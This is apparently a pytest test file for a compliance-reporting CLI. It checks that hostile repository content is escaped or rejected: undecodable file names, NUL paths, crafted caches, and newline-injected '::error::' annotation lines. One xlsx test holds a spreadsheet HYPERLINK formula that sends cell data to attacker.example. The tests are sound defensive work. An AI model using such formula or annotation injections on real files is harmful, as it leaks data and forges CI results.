"""Output made from hostile repository content: every format holds it as text, none acts on it
and none fails on it (file names that are not UTF-8, formulas, forged lines).
"""

from __future__ import annotations

import errno
import json
import marshal
import os
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from ciptool.app import check as runs
from ciptool.cli import app
from ciptool.incremental import cachefiles
from ciptool.incremental import filecache as loader_cache
from conftest import MINIMAL_CONTROL, MINIMAL_EVIDENCE, MakeRepo, brief, run

AS_OF = ["--as-of", "2026-11-15"]
GENERATED = ["--generated-at", "2026-11-15T00:00:00Z"]


#: A control file that is read, with one finding: a key controls do not have.
UNKNOWN_KEY = "controls:\n  - id: IAM-09\n    colour: red\n"


def _with_undecodable_name(make_repo: MakeRepo) -> Path:
    """A repository with a broken control file whose name holds the byte 0xff."""
    root = make_repo()
    (root / "controls" / os.fsdecode(b"bad\xff.yaml")).write_bytes(b"controls: [\n")
    return root


@pytest.mark.parametrize(
    ("output_format", "shown"),
    [
        ("json", '"file": "controls/bad\\\\xff.yaml"'),
        ("junit", 'file="controls/bad\\xff.yaml"'),
        ("github", "::error file=controls/bad\\xff.yaml,line=2,col=1,title=LD001 (ciptool)::"),
    ],
)
def test_non_utf8_file_name_is_escaped_in_check_formats(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, output_format: str, shown: str
) -> None:
    root = _with_undecodable_name(make_repo)
    out = tmp_path / f"out.{output_format}"
    args = ["check", "--repo", str(root), *AS_OF, "-f", output_format, "-o", str(out)]
    result = cli.invoke(app, args)
    assert result.exit_code == 1, result.output
    text = out.read_bytes().decode("utf-8")  # the whole document is UTF-8
    assert shown in text
    if output_format == "json":
        files = [f["file"] for f in json.loads(text)["findings"]]
        assert files == ["controls/bad\\xff.yaml"]


@pytest.mark.parametrize(
    ("kind", "doc_format"),
    [("evidence-index", f) for f in ("md", "html", "csv", "xlsx")]
    + [("audit-committee", f) for f in ("md", "html", "pdf")],
)
def test_non_utf8_file_name_does_not_stop_a_report(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, kind: str, doc_format: str
) -> None:
    root = make_repo()
    # A file that could not be read at all stops a report (it would leave out what the file
    # holds), so the control file here is read, with a finding in it (SC001).
    (root / "controls" / os.fsdecode(b"bad\xff.yaml")).write_text(UNKNOWN_KEY)
    (root / "evidence/2026/files" / os.fsdecode(b"z\xfe.csv")).write_bytes(b"a\n")
    out = tmp_path / f"report.{doc_format}"
    args = ["report", kind, "--repo", str(root), *AS_OF, *GENERATED, "-f", doc_format]
    result = cli.invoke(app, [*args, "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 0


def test_xlsx_about_sheet_shows_a_formula_program_name_as_text(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    program = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    root = make_repo({"ciptool.yaml": f"program: '{program}'\n"})
    out = tmp_path / "index.xlsx"
    args = ["report", "evidence-index", "--repo", str(root), *AS_OF, *GENERATED, "-f", "xlsx"]
    result = cli.invoke(app, [*args, "-o", str(out)])
    assert result.exit_code == 0, result.output
    about = load_workbook(out)["About"]
    cell = about["B2"]
    assert (about["A2"].value, cell.value) == ("Program", program.replace("''", "'"))
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_evidence_path_with_a_nul_is_a_schema_finding(make_repo: MakeRepo, cli: CliRunner) -> None:
    evidence = MINIMAL_EVIDENCE.replace("path: files/q.csv", 'path: "files/x\\0.csv"')
    root = make_repo({"evidence/2026/iam-01.yaml": evidence})
    result = run(root)
    (finding,) = [f for f in result.findings if f.severity.value == "error"]
    assert ("SC005", "evidence/2026/iam-01.yaml", 7, 16) in brief(result)
    assert finding.message == "a file path cannot hold a NUL character (\\0)"
    checked = cli.invoke(app, ["check", "--repo", str(root), *AS_OF])
    assert checked.exit_code == 1, checked.output
    # The auditor's check fails on a record it cannot read, naming why, and never crashes.
    verified = cli.invoke(app, ["evidence", "verify", "--repo", str(root)])
    assert verified.exit_code == 1, verified.output
    assert "7:16    error   SC005  a file path cannot hold a NUL character" in verified.output


def _crafted_entries(kind: str, rels: list[str]) -> list[dict[Any, object]]:
    """Cache bodies that are intact (header and CRC) but whose entries no run wrote."""
    good_ident = (1, 2, 3, 4)
    yaml_payload = ("0" * 64, marshal.dumps(({}, ())))
    bodies: list[dict[Any, object]] = [
        dict.fromkeys(rels, 7),
        dict.fromkeys(rels, ()),
        dict.fromkeys(rels, ("x", None, False, yaml_payload)),
        dict.fromkeys(rels, ((1, 2), None, False, yaml_payload)),
        dict.fromkeys(rels, (None, 5, "no", ("a", b"b"))),
        {5: (good_ident, None, False, yaml_payload), None: 1},
    ]
    return bodies + (
        [
            dict.fromkeys(rels, ("__IDENT__", None, False, ("0" * 64, b"not marshal"))),
            {rel: ("__IDENT__", None, False, ("0" * 64, marshal.dumps(5))) for rel in rels},
            {
                rel: ("__IDENT__", None, False, ("0" * 64, marshal.dumps(({}, (7,)))))
                for rel in rels
            },
            {
                rel: ("__IDENT__", None, False, ("0" * 64, marshal.dumps(({}, 3, 4))))
                for rel in rels
            },
        ]
        if kind == "yaml"
        else [dict.fromkeys(rels, ("__IDENT__", None, False, ("ab", -1, 3)))]
    )


@pytest.mark.parametrize("kind", ["yaml", "files"])
def test_a_crafted_cache_counts_as_empty(make_repo: MakeRepo, cli: CliRunner, kind: str) -> None:
    root = make_repo()
    args = ["check", "--repo", str(root), *AS_OF, "-f", "json"]
    first = cli.invoke(app, args)
    assert first.exit_code == 0, first.output
    cache_dir = root / cachefiles.DEFAULT_DIR
    path = cachefiles.cache_file(cache_dir, root, f"{kind}.cache")
    made_by = loader_cache.made_by(root)
    kept = cachefiles.read_cache_file(path, made_by)
    assert isinstance(kept, dict) and kept
    for crafted in _crafted_entries(kind, list(kept)):
        for leftover in cache_dir.glob("*.result"):
            leftover.unlink()  # the kept result would be printed without reading the cache
        body = {
            rel: (kept[rel][0], *entry[1:])
            if isinstance(entry, tuple) and entry[:1] == ("__IDENT__",)
            else entry
            for rel, entry in crafted.items()
        }
        cachefiles.write_cache_file(path, made_by, body)
        again = cli.invoke(app, args)
        assert again.exit_code == 0, (body, again.output)
        assert again.stdout == first.stdout


def _cyclic() -> list[object]:
    loop: list[object] = []
    loop.append(loop)
    return loop


def _doubling(times: int) -> list[object]:
    """A list that holds one list twice, ``times`` deep: 2**times items when walked as a tree."""
    shared: list[object] = ["x"]
    for _ in range(times):
        shared = [shared, shared]
    return shared


def _nested(depth: int) -> list[object]:
    nested: list[object] = []
    for _ in range(depth):
        nested = [nested]
    return nested


#: Data and problems a cached parse could be made to hold, which no parse of YAML makes.
CRAFTED_PARSES: dict[str, tuple[Any, Any]] = {
    "set": ({"controls": {"a", "b"}}, ()),
    "frozenset": ({"controls": frozenset()}, ()),
    "bytes": ({"controls": [b"IAM-01"]}, ()),
    "code": ({"controls": [compile("1", "crafted", "eval")]}, ()),
    "complex": ({"controls": 1j}, ()),
    "ellipsis": ({"controls": ...}, ()),
    "number": ({"controls": 5}, ()),
    "boolean": ({"controls": [{"id": True}]}, ()),
    "tuple": ({"controls": ("a",)}, ()),
    "key-not-text": ({5: "x"}, ()),
    "cycle": ({"controls": _cyclic()}, ()),
    "deeper-than-a-parse": ({"controls": _nested(100)}, ()),
    "shared-2**40": ({"controls": _doubling(40)}, ()),
    "top-level-set": ({"a"}, ()),
    "problem-suggestion": ({}, (("LD001", "m", 1, 1, {"x"}, ()),)),
    "problem-path": ({}, (("LD001", "m", 1, 1, "", ({"x"},)),)),
    "problem-line": ({}, (("LD001", "m", True, 1, "", ()),)),
}


@pytest.mark.parametrize("crafted", list(CRAFTED_PARSES), ids=list(CRAFTED_PARSES))
def test_a_cached_parse_holding_what_no_parse_makes_is_parsed_again(
    make_repo: MakeRepo, cli: CliRunner, settled: None, crafted: str
) -> None:
    root = make_repo()
    args = ["check", "--repo", str(root), *AS_OF, "-f", "json"]
    first = cli.invoke(app, args)
    assert first.exit_code == 0, first.output
    cache_dir = root / cachefiles.DEFAULT_DIR
    path = cachefiles.cache_file(cache_dir, root, "yaml.cache")
    made_by = loader_cache.made_by(root)
    kept = cachefiles.read_cache_file(path, made_by)
    assert isinstance(kept, dict) and len(kept) == 4
    packed = marshal.dumps(CRAFTED_PARSES[crafted])
    body = {rel: (*entry[:3], (entry[3][0], packed)) for rel, entry in kept.items()}
    cachefiles.write_cache_file(path, made_by, body)
    for leftover in cache_dir.glob("*.result"):
        leftover.unlink()  # the kept result would be printed without reading the cache
    again = cli.invoke(app, args)
    assert again.exit_code == 0, again.output
    assert again.stdout == first.stdout


LONG_NAME = "a" * 300 + ".json"


@pytest.mark.parametrize(
    ("argv", "why"),
    [
        (["check", *AS_OF, "-f", "json", "-o", "{tmp}/folder"], None),
        (["report", "evidence-index", *AS_OF, *GENERATED, "-o", "{tmp}/folder"], "Is a directory"),
        (["check", *AS_OF, "-f", "json", "-o", f"{{tmp}}/{LONG_NAME}"], "File name too long"),
        (
            ["report", "evidence-index", *AS_OF, *GENERATED, "-o", f"{{tmp}}/{LONG_NAME}"],
            "File name too long",
        ),
        (["init", "{tmp}/dangling"], "File exists"),
        (["init", "{tmp}/regular"], "{tmp}/regular is a file, not a folder"),
    ],
    ids=[
        "check-folder",
        "report-folder",
        "check-long",
        "report-long",
        "init-dangling",
        "init-file",
    ],
)
def test_an_output_the_system_refuses_is_a_usage_error(
    make_repo: MakeRepo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    argv: list[str],
    why: str | None,
) -> None:
    root = make_repo()
    (tmp_path / "folder").mkdir()
    (tmp_path / "dangling").mkdir()
    (tmp_path / "dangling" / "ciptool.yaml").symlink_to(tmp_path / "nowhere")
    (tmp_path / "regular").write_text("a file\n", encoding="utf-8")
    monkeypatch.chdir(root)
    args = [part.replace("{tmp}", str(tmp_path)) for part in argv]
    outcome = CliRunner().invoke(app, args)
    assert outcome.exception is None or isinstance(outcome.exception, SystemExit)
    assert outcome.exit_code == 2, outcome.output
    if why is None:  # the command line refuses it before the run
        assert f"'{tmp_path}/folder' is a directory" in outcome.output
    else:
        target = args[-1] if argv[0] != "init" else f"{args[-1]}/ciptool.yaml"
        why = why.replace("{tmp}", str(tmp_path))
        assert f"ciptool: cannot write {target}: {why}\n" in outcome.output
    assert "Traceback" not in outcome.output


def test_a_full_disk_is_a_usage_error_and_a_cache_it_stops_is_skipped(
    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make_repo()

    def full(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("ciptool.fileio.atomic.tempfile.mkstemp", full)
    out = tmp_path / "out.json"
    outcome = cli.invoke(app, ["check", "--repo", str(root), *AS_OF, "-f", "json", "-o", str(out)])
    assert outcome.exit_code == 2, outcome.output
    assert f"ciptool: cannot write {out}: No space left on device\n" in outcome.output
    assert "Traceback" not in outcome.output


def test_a_cache_that_cannot_be_written_is_skipped(
    make_repo: MakeRepo, cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make_repo()
    args = ["check", "--repo", str(root), *AS_OF, "-f", "json"]
    fresh = cli.invoke(app, [*args, "--no-cache"])

    def read_only(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr("ciptool.incremental.cachefiles.write_atomic", read_only)
    monkeypatch.setattr("ciptool.incremental.cachefiles._prepare", read_only)
    for _ in range(2):
        outcome = cli.invoke(app, args)
        assert outcome.exit_code == 0, outcome.output
        assert outcome.stdout == fresh.stdout
    assert not (root / cachefiles.DEFAULT_DIR).exists()


FORGED = "\n::error::FORGED"


def test_a_newline_in_a_value_or_file_name_starts_no_line(
    make_repo: MakeRepo, cli: CliRunner
) -> None:
    control = MINIMAL_CONTROL.replace(
        "title: Quarterly access recertification", 'title: "Quarterly\\n::error::FORGED"'
    ).replace("owner: IAM lead", 'owner: "a\\n::error::FORGED"')
    invalid = MINIMAL_CONTROL.replace("IAM-01", "IAM-02").replace(
        "policy: POL-ACCESS", 'policy: "POL-X\\n::error::FORGED"'
    )
    root = make_repo(
        {
            "controls/iam.yaml": control,
            "controls/invalid.yaml": invalid,
            f"controls/x{FORGED}.yaml": "controls: [\n",
        }
    )
    outputs = []
    for argv in (
        ["check", *AS_OF],
        ["check", *AS_OF, "-f", "github"],
        ["explain", "IAM-01", *AS_OF],
    ):
        outcome = cli.invoke(app, [*argv, "--repo", str(root)])
        assert outcome.exit_code in {0, 1}, outcome.output
        outputs.append(outcome.output)
    lines = "".join(outputs).splitlines()
    assert [line for line in lines if "FORGED" in line and not line.startswith(("::", " "))] == [
        "controls/x\\x0a::error::FORGED.yaml",
        "IAM-01: Quarterly\\x0a::error::FORGED",
        "owner:     a\\x0a::error::FORGED",
        # explain names the file it could not read, escaped as check does
        "controls/x\\x0a::error::FORGED.yaml:2:1: error LD001 YAML syntax error: did not find"
        " expected node content (while parsing a flow node)",
    ]
    assert not [line for line in lines if line.lstrip().startswith("::error::FORGED")]
    assert any(line.startswith("::error file=controls/invalid.yaml") for line in lines)


def test_a_kept_result_with_a_crafted_threshold_is_not_used(
    make_repo: MakeRepo, cli: CliRunner, settled: None
) -> None:
    root = make_repo()
    args = ["check", "--repo", str(root), *AS_OF, "-f", "json"]
    first = cli.invoke(app, args)
    assert first.exit_code == 0, first.output
    path = cachefiles.cache_file(root / cachefiles.DEFAULT_DIR, root, "result")
    made_by = cachefiles.header(root, runs._FORMAT)
    kept = cachefiles.read_cache_file(path, made_by)
    assert isinstance(kept, tuple) and len(kept) == 5
    cachefiles.write_cache_file(path, made_by, (*kept[:3], "x", kept[4]))
    again = cli.invoke(app, args)
    assert again.exit_code == 0, again.output
    assert again.stdout == first.stdout


#: Kept results whose findings hold what no run writes: each would stop rendering (exit 3).
CRAFTED_FINDINGS = {
    "number-as-message": lambda f: (*f[:2], 7, *f[3:]),
    "text-as-line": lambda f: (*f[:3], (f[3][0], "2", *f[3][2:]), *f[4:]),
    "number-as-file": lambda f: (*f[:3], (5, *f[3][1:]), *f[4:]),
    "list-as-related": lambda f: (*f[:6], [1], *f[7:]),
    "text-as-in-baseline": lambda f: (*f[:11], "yes"),
    "one-field-short": lambda f: f[:11],
    "text-as-count": "counts",
}


@pytest.mark.parametrize("craft", CRAFTED_FINDINGS.values(), ids=CRAFTED_FINDINGS.keys())
def test_a_kept_result_whose_findings_no_run_wrote_is_not_used(
    make_repo: MakeRepo, cli: CliRunner, settled: None, craft: Any
) -> None:
    root = make_repo({"controls/extra.yaml": UNKNOWN_KEY})
    args = ["check", "--repo", str(root), *AS_OF]
    first = cli.invoke(app, args)
    assert first.exit_code == 1, first.output
    path = cachefiles.cache_file(root / cachefiles.DEFAULT_DIR, root, "result")
    made_by = cachefiles.header(root, runs._FORMAT)
    kept = cachefiles.read_cache_file(path, made_by)
    assert isinstance(kept, tuple) and len(kept) == 5
    result = list(kept[2])
    if craft == "counts":  # a count as text, the coverage rows as they were
        result[6] = tuple((severity, str(count)) for severity, count in result[6])
    else:
        result[1] = (craft(result[1][0]), *result[1][1:])
    cachefiles.write_cache_file(path, made_by, (*kept[:2], tuple(result), *kept[3:]))
    again = cli.invoke(app, args)
    assert again.exit_code == 1, again.output
    assert again.stdout == first.stdout
